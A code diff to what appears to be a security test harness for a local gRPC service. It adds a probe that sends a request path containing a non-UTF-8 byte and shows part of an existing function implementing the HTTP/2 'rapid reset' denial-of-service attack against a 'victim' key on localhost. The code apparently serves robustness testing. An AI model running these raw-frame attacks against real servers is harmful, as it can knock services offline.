@@ -26,7 +26,7 @@ PIPELINED = 1000
 _STATUS = b"HTTP/1.1 "
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _HEADERS, _RST_STREAM, _SETTINGS, _GOAWAY = 1, 3, 4, 7
-_END_HEADERS, _CANCEL = 4, 8
+_END_STREAM, _END_HEADERS, _CANCEL = 1, 4, 8
 
 
 @cache
@@ -80,24 +80,44 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 def _field(name: str, value: str) -> bytes:
     """HPACK: both in clear, not to be remembered."""
     packed = b"\0"
-    for text in (name.encode(), value.encode()):
+    for text in (name.encode(), value.encode("latin-1")):
         assert len(text) < 127 + 128
         packed += bytes([len(text)]) if len(text) < 127 else bytes([127, len(text) - 127])
         packed += text
     return packed
 
 
+def _header(hands: Hands, path: str) -> bytes:
+    """Of a call."""
+    fields = (
+        (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"), ("te", "trailers"),
+        ("content-type", "application/grpc"), ("authorization", f"Bearer {hands.victim.keys['open']}"),
+    )  # fmt: skip
+    return b"".join(_field(name, value) for name, value in fields)
+
+
+async def path_of_bytes(hands: Hands) -> str:
+    """A call whose path is no text in UTF-8. By its answer's last frame."""
+    header = _header(hands, "/outrider.v1.GenerationService/\xff")
+    try:
+        async with _connected(hands, "grpc") as (reader, writer):
+            writer.write(
+                _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, header)
+            )
+            while True:
+                head = await reader.readexactly(9)
+                body = await reader.readexactly(int.from_bytes(head[:3], "big"))
+                if head[3] == _HEADERS and head[4] & _END_STREAM:
+                    return "no such method" if b"Method not found!" in body else "told"
+                if head[3] in (_RST_STREAM, _GOAWAY):
+                    return "cut"
+    except (OSError, asyncio.IncompleteReadError):
+        return HUNG_UP
+
+
 async def rapid_reset(hands: Hands) -> str:
     """Streams that are opened, and cancelled in the same breath: no number of streams at once is ever reached."""
-    key = hands.victim.keys["open"]
-    block = b"".join(
-        _field(name, value)
-        for name, value in (
-            (":method", "POST"), (":scheme", "https"), (":path", "/outrider.v1.GenerationService/GenerateStream"),
-            (":authority", "localhost"), ("te", "trailers"), ("content-type", "application/grpc"),
-            ("authorization", f"Bearer {key}"),
-        )
-    )  # fmt: skip
+    block = _header(hands, "/outrider.v1.GenerationService/GenerateStream")
     sent = _PREFACE + _frame(_SETTINGS, 0, 0, b"")
     for stream in itertools.islice(itertools.count(1, 2), AT_ONCE):
         sent += _frame(_HEADERS, _END_HEADERS, stream, block)
